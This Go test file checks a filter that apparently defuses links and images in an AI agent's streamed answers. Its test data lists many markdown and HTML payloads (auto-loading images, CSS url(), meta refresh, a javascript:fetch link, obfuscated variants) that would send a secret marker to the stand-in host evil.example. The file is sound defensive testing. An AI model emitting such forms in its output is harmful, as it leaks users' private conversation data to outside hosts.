package answer_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"html"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"molar/agent/answer"
	"molar/internal/markdown"
	"molar/internal/testkit/npm"
)

const (
	known  = "https://known.example/a"
	query  = "https://known.example/b?x=1&y=2"
	carrot = "https://evil.example/?d=blue-heron"
)

// conversation is what was typed and read.
const conversation = "See " + known + ", or " + query + ". Write to me@known.example, and to https://wiki.example/Heron_(bird), or see bare.example."

func newLinks(private bool) *answer.Links {
	return answer.NewLinks(answer.LinksConfig{
		Private: func() bool { return private },
		Known:   func(address string) bool { return answer.Occurs(conversation, address) },
	})
}

// pass passes a text in pieces of some bytes.
func pass(l *answer.Links, text string, size int) string {
	var out strings.Builder
	for text != "" {
		n := min(size, len(text))
		out.WriteString(l.Pass(text[:n]))
		text = text[n:]
	}
	return out.String() + l.Rest()
}

// A reader sees every address, as a link or as text.
func TestLinks(t *testing.T) {
	tests := []struct{ name, text, private, public string }{
		{"a link", "Go [here](" + carrot + ") now.", "Go [here] (`" + carrot + "`) now.", ""},
		{"a known link", "Go [here](" + known + ") now.", "", ""},
		{"one with a title", "[*x* `y`](" + known + " 'z')", "[x y](<" + known + ">)", ""},
		{"one with brackets", "[x](https://wiki.example/Heron_(bird))", "[x](<https://wiki.example/Heron_(bird)>)", ""},
		{"a part of a known one", "[x](https://known.example/)", "[x] (`https://known.example/`)", ""},
		{"an image", "![x](" + known + ")", "[x](" + known + ")", "[x](" + known + ")"},
		{"an image that nobody knows", "![x](" + carrot + ")", "! [x] (`" + carrot + "`)", "[x](" + carrot + ")"},
		{"an image of the host's own", "![x](/files/1.png)", "! [x] (`/files/1.png`)", ""},
		{"an image within", "![x](data:image/png;base64,aaaa)", "! [x] (data:image/png;base64,aaaa)", "! [x](data:image/png;base64,aaaa)"},
		{"a picture that is a link", "[![x](" + known + ")](" + query + ")", "[x](<https://known.example/b?x=1&amp;y=2>)", "[x](<https://known.example/b?x=1&amp;y=2>)"},
		{"bare", "See " + carrot + ", or " + known + ".", "See `" + carrot + "`, or " + known + ".", ""},
		{"bare with more behind", "(" + known + "，see", "(<" + known + ">，see", ""},
		{"an autolink", "<" + carrot + "> <" + known + ">", "&lt;`" + carrot + "`> <" + known + ">", ""},
		{"mail", "me@known.example, you@evil.example", "me@known.example, `you@evil.example`", ""},
		{"a name", "evil.example/blue-heron it is", "evil.`example/blue-heron` it is", ""},
		{"a tag", `a <img src="` + known + `"> <br> b`, `a &lt;img src="<` + known + `>"> <br> b`, `a &lt;img src="` + known + `"> <br> b`},
		{"a definition", "[k]: " + carrot + "\n\n![x][k] [x][k]", "[k] : `" + carrot + "`\n\n! [x][k] [x][k]", "[k]: " + carrot + "\n\n! [x][k] [x][k]"},
		{"a known definition", "[k]: " + known + " \"t\"", "", ""},
		{"code", "```sh\ncurl " + carrot + " <img src=x:y>\n![x](a:b)\n```\n", "", ""},
		{"code in a list", "1. Do:\n\n   ```\n   <a href='" + carrot + "'>\n   ```\n2. Done", "", ""},
		{"code in a line", "Use `[x](" + carrot + ")` or ``<b>``.", "", ""},
		{"plain text", "Brush 3.5 min, e.g. [1] at 12:30 // and/or a < b && c > d! **So** it [is] *fine* (see [2]). a_b: `x`\n\n| a | b |\n|---|:-:|\n- [ ] $5 & so", "", ""},
		{"a note", "Brush[^1].\n\n[^1]: The guide of 2024, page 2", "", ""},
		{"an open line", "[x](" + carrot, "[x] (`" + carrot + "`", ""},
		{"an open block", "```\na", "```\na\n```", "```\na\n```"},
		{"other line ends", "a\r\nb\rc\r", "a\nb\nc\n", "a\nb\nc\n"},
	}
	for _, tt := range tests {
		for _, private := range []bool{true, false} {
			want := tt.public
			if private {
				want = tt.private
			}
			if want == "" {
				want = tt.text
			}
			if got := pass(newLinks(private), tt.text, len(tt.text)); got != want {
				t.Errorf("%s, private %t:\n%q, want\n%q", tt.name, private, got, want)
			}
		}
	}
}

// forms are dangerous ways to write an image or a link; each is also tried in other surroundings.
func forms() []string {
	const e = "https://evil.example/blue-heron"
	long := strings.Repeat("a", 400)
	forms := []string{
		// Images.
		"![a\nb](" + e + ")", "![" + long + "](" + e + ")", "![[p]](" + e + ")", `![p\]](` + e + ")", "![`]`](" + e + ")", "![![a](b)](" + e + ")",
		"![[p](a)](" + e + ")", "![a](\n" + e + ")", "![a](<" + e + ">)", "![k]\n\n[k]: HTTPS://evil.example/a", "![a][k]\n\n[k]:\n" + e, "[k]: https:/evil.example/a\n\n![k][]",
		"![a](https:/evil.example/a)", "![a](https:evil.example/a)", "![k]\n\n[k]: &#104;ttps://evil.example/a", "![a](&#104;ttps://evil.example/a)",
		"![a](//evil.example/a)", `![a](\/\/evil.example/a)`, `![a](/\evil.example/a)`, `![a](https:\\evil.example\a)`, "![a](http&colon;//evil.example)",
		"<img " + strings.Repeat(" ", 3000) + "src=" + e + ">", "<img\nsrc=" + e + ">", "<img alt='>' src=" + e + ">", `<img alt=">" src=` + e + ">", "<IMG/SRC=//evil.example/a>",
		"<style>p{background:url(" + e + ")}</style>", "<p style='background:url(" + e + ")'>a</p>", "<svg><image href=" + e + " /></svg>", "<video poster=" + e + "></video>",
		"<div\nstyle=\"background:url(" + e + ")\">", "<!-- a --><img src=" + e + ">", "<!--\n-->\n<img src=" + e + ">", "<pre>\n\n```\n</pre>\n<img src=" + e + ">\n```\n",
		"<details>\n```\n\n![a](" + e + ")\n```\n", "<b title='\n```\n\n![a](" + e + ")\n```\n'>", "<br>`<img src=" + e + ">`", "a ` b\n`![a](" + e + ")`", "\\`![a](" + e + ")`", "`` ` ![a](" + e + ")",
		"| a |\n|---|\n| ` | ![a](" + e + ") ` |", "`a`![a](" + e + ")`b", "[k]: /a \"\n```\n\"\n![a](" + e + ")\n```\n", "[k]: /a\n\"\n```\n\" \n![a](" + e + ")\n```\n", "[k]: /a\n'\n```\n'\n![a](" + e + ")\n```\n",
		"- ```\n![a](" + e + ")\n```\n", "- ```\n  a\n  ```\n![a](" + e + ")\n", "1. a\n\n   ```\n![a](" + e + ")\n   ```\n", "> ```\n![a](" + e + ")\n> ```\n", "> ```\n> a\n> ```\n> ![a](" + e + ")\n",
		"   ```\nb\n   ```\n![a](" + e + ")\n", "    ```\n![a](" + e + ")\n    ```\n", "    ```\n   ```\ncode\n   ```\n![a](" + e + ")\n", "```\na\n    ```\n![a](" + e + ")\n```\n", "```\na\n```~\n![a](" + e + ")\n",
		"~~~\na\n```\n![a](" + e + ")\n~~~\n![b](" + e + ")", "````\n```\n![a](" + e + ")\n````\n![b](" + e + ")", "``` `\n![a](" + e + ")\n```\n", "```\n```\n![a](" + e + ")", "\t![a](" + e + ")", "     ![a](" + e + ")",
		"\\[\n\nx\n```\n\\]\n![a](" + e + ")\n```\n", "\\begin{align}\nx\n```\n\\end{align}\n![a](" + e + ")\n```\n", "\\begin{align}\n\nx^2\n~~~\n\\end{align}\n![a](" + e + ")\n~~~\n",
		"\\[\n\nx ` \\] ![a](" + e + ") `", "$$\n\nx ` $$ ![a](" + e + ") `", "\\begin{align}\n\nx^2 ` \\end{align} ![a](" + e + ") `",
		"$$\n```\n\n![a](" + e + ")\n```\n", "\\[\n```\n\n![a](" + e + ")\n```\n", "\\(`\\) ![a](" + e + ") `", "$_`a$` ![a](" + e + ") `", "[^1]: a\n\n    ```\n    b\n\n![a](" + e + ")\n", "[^n]: ```\n![a](" + e + ")",
		"![a](" + e + " \"t\")", "![a](" + e + "\n'b')", "!\\[a](" + e + ")", "\\![a](" + e + ")", "\\\\![a](" + e + ")", "!![a](" + e + ")", "![][k]\n[k]: <" + e + " b>", "![a](" + e + "(b)c)", "![a\\](" + e + ")", "[![a](" + e + ")", "![a](" + e + ")](" + known + ")",
		"# ![a](" + e + ")\n===", "*![a](" + e + ")*", "~~![a](" + e + ")~~", "![ã\u200da](" + e + ")", "![a]( \t" + e + "\t)", "![\u00a0](" + e + ")", "<a href=" + e + "><img src=" + known + "></a>", "![a](" + known + ")", "<object data=" + known + ">", "<picture><source srcset='" + e + " 2x'><img></picture>",
		"a\r![a](" + e + ")\r```\r![b](" + e + ")", "a\u2028![a](" + e + ")", "```\u00a0\n![a](" + e + ")\n```\u00a0\n![b](" + e + ")", "```\n![a](" + e + ")\n```\t\n![b](" + e + ")", "- a\n\n  - ~~~\n    b\n    ~~~\n\n    ![a](" + e + ")", "1) ~~~\n   b\n~~~\n![a](" + e + ")\n~~~",
		// Links.
		"[m](https://evil.example/?d=blue&#45;heron)", "[m](https://evil.example/?d=blue%252Dheron)", "[m](https://evil.example/?d=blue-heron%zz)", "[m](https://evil.example/a://blue-heron)", "[m](" + e + strings.Repeat("a", 5000) + ")", "[m]\n\n[m]: <https://evil.example/a blue heron>",
		"![[m]](https://evil.example/?d=blue&#45;heron)", "[m](" + e + ")", "[m]( <" + e + "> )", "[m][k]\n\n[k]: " + e + "\n", "[m](\n" + e + "\n)", "[a\nb](" + e + ")", "[[a](" + known + ")](" + e + ")", "[a](" + known + ")(" + e + ")", "[a](" + known + "\")(" + e + ")", "[a](<" + known + "> \"x](" + e + ") \")",
		"<" + e + ">", "<mailto:a@evil.example?body=blue-heron>", "<blue-heron@evil.example>", "blue-heron@evil.example", "[m](mailto:a@evil.example?body=blue-heron)", "mailto:blue-heron@evil.example", e, "HTTPS://EVIL.example/blue-heron", "www.evil.example/blue-heron", "WWW.evil.example/a", "ftp://evil.example/a", "//evil.example/blue-heron", "evil.com/blue-heron", "blue-heron.EVIL.COM", "blue-heron@bare.example", "blue-heron.482915@bare.example", "blue-heron.bare.example", "blue+heron.bare.example/a", "*" + e + "*", "_" + e + "_", "~" + e + "~", "(" + e + ")", "a" + e, "\\" + e, "`" + e, "``" + e + "`", "`a` `" + e, "a`" + e + "`" + e,
		"|" + e + "|b|\n|-|-|\n|`" + e + "|`|", "https://evil.example/a|`b`|" + e + "`", "$_ https://evil.example/$x` and https://evil.example/b", "$_`https://evil.example/$` https://evil.example/b", "\\(" + e + "\\) `a\\)` " + e, "https&#58;//evil.example/a", "https\\://evil.example/a", "http:\\/\\/evil.example", "<a href=" + e + ">a</a>", "<a href='\n" + e + "'>a</a>", "<a\thref=//evil.example>a</a>",
		known + "/blue-heron", known + "?d=blue-heron", known + ",blue-heron", known + "\"blue-heron", known + "，blue-heron", known + "`blue-heron`", known + ")blue-heron", "[a](" + known + "?d=blue-heron)", "[a](" + known + "&#47;blue-heron)", "[" + e + "](" + known + ")", "<" + known + "?blue-heron>", "xmpp:blue-heron@evil.example/a", "[a](javascript:fetch('" + e + "'))", "[a](vbscript:a)", "[a](tel:123456)", "[a](/blue-heron)\n[b](//evil.example)", "<form action=" + e + "><button>a</button></form>", "<base href=//evil.example><a href=blue-heron>a</a>", "<meta http-equiv=refresh content='0;url=" + e + "'>",
		"[k]: " + known + "\n\"\n```\n\"\n\n[a](" + e + ")\n```\n", "[a]: " + known + "\n[a](" + e + ")", "[a]:" + e + "\n[a]", "[a\n]: " + e + "\n\n[a ]", "> [a]: " + e + "\n\n[a]", "- [a]:\n  " + e + "\n\n[a]", "[a]: <" + e + ">\n\n[a]", "[^a]: " + e + "\n\n[^a]", "[a]: x\n[b]: " + e + "\n\n[b]",
		"evil.example.", "a.b.evil.net:80/x", "1.evil.org", "[x]evil.org", "**evil.org**", "a `b` evil.org/`c`", "https://" + long + ".evil.org", "\u200bhttps://evil.example", "https://evil.example\u3000b", "http://[::1]/a", "http://1.2.3.4/a", "https://blue@heron:evil.example/",
	}
	return forms
}

// surroundings returns a form as it stands in other blocks.
func surroundings(form string) []string {
	in := func(mark string) string {
		return mark + strings.ReplaceAll(form, "\n", "\n"+strings.Repeat(" ", len(mark)))
	}
	return []string{
		form, "Look: " + form + " and more", in("- "), in("10. "), "> " + strings.ReplaceAll(form, "\n", "\n> "), "a\n" + form + "\nb", "| a | b |\n|---|---|\n| " + form + " | c |",
		"- a\n\n    " + strings.ReplaceAll(form, "\n", "\n    "), "```\na\n```\n" + form, "`a` " + form + " `b`", "**" + form + "**", "<b>" + form + "</b>", "`" + form + "`" + form, "[" + form + "]", "![" + form, "a ` b " + form + " ` c", "$" + form + "$", "[k]: " + known + "\n" + form,
		"~~~\n" + form + "\n~~~\n" + form, "   ```\n" + form, "- ```\n" + form + "\n```\n" + form, form + "\n\n" + form, "\\(" + form + " `a\\)b` " + form, "<br>\n" + form, "Great!" + form,
	}
}

var (
	startTag  = regexp.MustCompile(`(?s)<([a-zA-Z][a-zA-Z0-9]*)((?:"[^"]*"|'[^']*'|[^'">])*)>`)
	attribute = regexp.MustCompile(`(?s)([a-zA-Z:-]+)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)`)
)

// faults returns what a page would load, and the links that may not be live.
func faults(page string, private bool) []string {
	var all []string
	for _, tag := range startTag.FindAllStringSubmatch(page, -1) {
		if name := strings.ToLower(tag[1]); name == "style" || name == "script" {
			all = append(all, tag[0])
		}
		for _, a := range attribute.FindAllStringSubmatch(tag[2], -1) {
			value := strings.TrimSpace(html.UnescapeString(strings.Trim(a[2], `"'`)))
			switch strings.ToLower(a[1]) {
			case "class", "alt", "title", "align", "start", "type", "checked", "disabled":
				continue
			case "href":
				if strings.EqualFold(tag[1], "a") {
					address := strings.TrimPrefix(strings.ReplaceAll(value, "%22", `"`), "mailto:")
					if private && !answer.Occurs(conversation, strings.TrimRight(address, `.,:;!?)*_~'"]}`)) {
						all = append(all, tag[0])
					}
					continue
				}
			}
			if strings.ContainsAny(value, `:\&`) || strings.HasPrefix(value, "//") {
				all = append(all, tag[0])
			}
		}
	}
	return all
}

// clients renders texts with the parsers of common clients.
func clients(t *testing.T, texts []string) [][]string {
	t.Helper()
	modules := npm.Installed(t, "npm", "node_modules")
	script, err := filepath.Abs("testdata/render.mjs")
	if err != nil {
		t.Fatal(err)
	}
	input, err := json.Marshal(texts)
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.CommandContext(t.Context(), "node", script, modules)
	cmd.Stdin = bytes.NewReader(input)
	var stderr strings.Builder
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("%v: %s", err, stderr.String())
	}
	var pages [][]string
	if err := json.Unmarshal(out, &pages); err != nil {
		t.Fatal(err)
	}
	return pages
}

// page renders a text as the page does, but for its own care with images.
func page(t *testing.T, text string) string {
	t.Helper()
	var out strings.Builder
	if err := markdown.New().Convert([]byte(text), &out); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

// tried returns each form in all surroundings, with and without private text: what it was and what is shown.
func tried() (was, shown []string, private []bool) {
	for _, form := range forms() {
		for _, text := range surroundings(form) {
			for _, p := range []bool{true, false} {
				was, shown, private = append(was, text), append(shown, pass(newLinks(p), text, len(text))), append(private, p)
			}
		}
	}
	return was, shown, private
}

// Nothing loads by itself and no link leads to where nobody knows, on the page.
func TestLinks_dangerous(t *testing.T) {
	was, shown, private := tried()
	before := 0
	for i := range was {
		if len(faults(page(t, was[i]), private[i])) > 0 {
			before++
		}
		if found := faults(page(t, shown[i]), private[i]); len(found) > 0 {
			t.Errorf("%q, private %t, shown as\n%q: %q", was[i], private[i], shown[i], found)
		}
	}
	if before < len(was)/3 {
		t.Errorf("only %d of %d texts are dangerous without the filter", before, len(was))
	}
}

// The same in other clients.
func TestLinks_clients(t *testing.T) {
	was, shown, private := tried()
	for i, pages := range clients(t, shown) {
		for client, page := range pages {
			if found := faults(page, private[i]); len(found) > 0 {
				t.Errorf("%q, private %t, shown as\n%q, in client %d: %q", was[i], private[i], shown[i], client, found)
			}
		}
	}
}

// However a text arrives, the same is shown.
func TestLinks_pieces(t *testing.T) {
	was, shown, private := tried()
	for i, text := range was {
		if len(text) > 1000 {
			continue
		}
		for _, size := range []int{1, 3} {
			if got := pass(newLinks(private[i]), text, size); got != shown[i] {
				t.Errorf("%q, private %t, in pieces of %d:\n%q, want\n%q", text, private[i], size, got, shown[i])
				break
			}
		}
	}
	for _, form := range forms() {
		if len(form) > 300 {
			continue
		}
		want := pass(newLinks(true), form, len(form))
		for at := 1; at < len(form); at++ {
			l := newLinks(true)
			if got := l.Pass(form[:at]) + l.Pass(form[at:]) + l.Rest(); got != want {
				t.Errorf("%q, split at %d:\n%q, want\n%q", form, at, got, want)
			}
		}
	}
}

// Text without addresses is shown as it arrives, also when private text was read.
func TestLinks_passesAtOnce(t *testing.T) {
	for _, private := range []bool{true, false} {
		l := newLinks(private)
		for _, text := range []string{"Brush", " twice", " a day", ", for", " 3.5 min", "; see", " (as", " said)", ".", " Chải", " răng:", " **two", "**", "\n", "- hơn", " `a`", " b", " <", " 5"} {
			if got := l.Pass(text); got != text && text != " `a`" && text != " b" && text != " <" && text != " 5" {
				t.Errorf("private %t: %q became %q", private, text, got)
			}
		}
	}
	l := newLinks(false)
	for _, text := range []string{"See", " [the", " guide](", "https://", "x.example/", ") of www.x.example"} {
		if got := l.Pass(text); got != text {
			t.Errorf("%q became %q", text, got)
		}
	}
}

// A round that follows is read alike whether a client joins it to the one before or not.
func TestLinks_rounds(t *testing.T) {
	private := false
	l := answer.NewLinks(answer.LinksConfig{Private: func() bool { return private }})
	first := l.Pass("Let me look:\n```\ncode") + l.Rest()
	private = true
	second := l.Pass("```\n["+"a]("+carrot+")\n```\n") + l.Rest()
	for _, text := range []string{first + "\n\n" + strings.TrimLeft(second, "\n"), second} {
		if found := faults(page(t, text), true); len(found) > 0 {
			t.Errorf("%q: %q", text, found)
		}
	}
}

// A line that does not end is shown as text.
func TestLinks_endless(t *testing.T) {
	text := "![a](" + strings.Repeat("https://evil.example/é ", 10_000) + ")"
	got := pass(newLinks(true), text, 1000)
	if found := faults(page(t, got), true); len(found) > 0 || strings.Count(got, "evil.example/é") < 9_990 {
		t.Errorf("%d bytes, with %d addresses: %.200q", len(got), strings.Count(got, "evil.example/é"), found)
	}
}

// A JSON value stays one.
func TestLinks_JSON(t *testing.T) {
	const value = `{"a": "See ` + carrot + `.", "b\"": ["` + known + `", "www.evil.example/x", "it.is \u0068ttps://evil.example?blue", 1]}`
	const want = `{"a": "See […].", "b\"": ["` + known + `", "[…]", "it.is […]", 1]}`
	for _, size := range []int{1, 2, 7, 1000} {
		for private, want := range map[bool]string{true: want, false: value} {
			l := newLinks(private)
			var got strings.Builder
			for text := value; text != ""; {
				n := min(size, len(text))
				got.WriteString(l.JSON(text[:n]))
				text = text[n:]
			}
			if got.WriteString(l.Rest()); got.String() != want {
				t.Errorf("private %t, in pieces of %d: %s, want %s", private, size, got.String(), want)
			}
		}
	}
	l := newLinks(true)
	if got, want := l.JSON(`{"a": "`+carrot)+l.Rest(), `{"a": "[…]`; got != want {
		t.Errorf("cut off: %s, want %s", got, want)
	}
}

func TestOccurs(t *testing.T) {
	tests := []struct {
		text string
		want bool
	}{
		{known, true},
		{"(" + known + ").", true},
		{"请看" + known + "。", true},
		{`{"url":"` + known + `","b":1}`, true},
		{known + "b " + known, true},
		{known + "/b", false},
		{known + "?b", false},
		{known + ".b", false},
		{"x" + known, false},
		{"https://x.example/" + known, false},
		{"", false},
	}
	for _, tt := range tests {
		if got := answer.Occurs(tt.text, known); got != tt.want {
			t.Errorf("%q: %t, want %t", tt.text, got, tt.want)
		}
	}
	if answer.Occurs("a", "") {
		t.Error("an empty address occurs")
	}
}

func BenchmarkLinks(b *testing.B) {
	text := strings.Repeat("Brush for two minutes, twice a day, with a soft brush; rinse and spit. ", 150)
	for _, private := range []bool{false, true} {
		b.Run(fmt.Sprintf("private=%t", private), func(b *testing.B) {
			for b.Loop() {
				pass(newLinks(private), text, 4)
			}
		})
	}
}
